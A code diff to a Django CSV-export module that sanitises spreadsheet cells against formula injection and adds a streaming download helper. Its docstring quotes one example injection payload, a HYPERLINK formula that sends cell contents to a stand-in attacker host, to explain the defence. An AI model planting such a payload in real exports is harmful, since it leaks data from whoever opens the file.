@@ -1,5 +1,6 @@
 """CSV as every part of the application writes it (the API's `?format=csv`, the follow-up board's
-*Download CSV*): one writer, so that every cell is made safe in one place.
+and the coverage grid's *Download CSV*): one writer, streamed, so that every cell is made safe in
+one place and memory stays flat however many rows there are.
 
 A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` (and, in some, a tab or a carriage
 return) as a formula: a title such as `=HYPERLINK("http://evil.example/?x="&A1,"Click")` would
@@ -10,6 +11,11 @@ A plain number (`-3`, `-0.5`) is no formula and stays as it is.
 
 import csv
 import re
+
+from django.http import StreamingHttpResponse
+
+# Rows read from the database per round trip when a file is streamed.
+CHUNK_SIZE = 2000
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
@@ -35,3 +41,10 @@ def csv_lines(rows, header=None):
             header = header or list(row)
             yield writer.writerow([safe_cell(name) for name in header])
         yield writer.writerow([safe_cell(row.get(column, "")) for column in header])
+
+
+def csv_response(rows, header, filename: str) -> StreamingHttpResponse:
+    """A CSV file to download, streamed: `rows` (dictionaries) are written as they come."""
+    response = StreamingHttpResponse(csv_lines(rows, header), content_type="text/csv")
+    response["Content-Disposition"] = f'attachment; filename="{filename}"'
+    return response
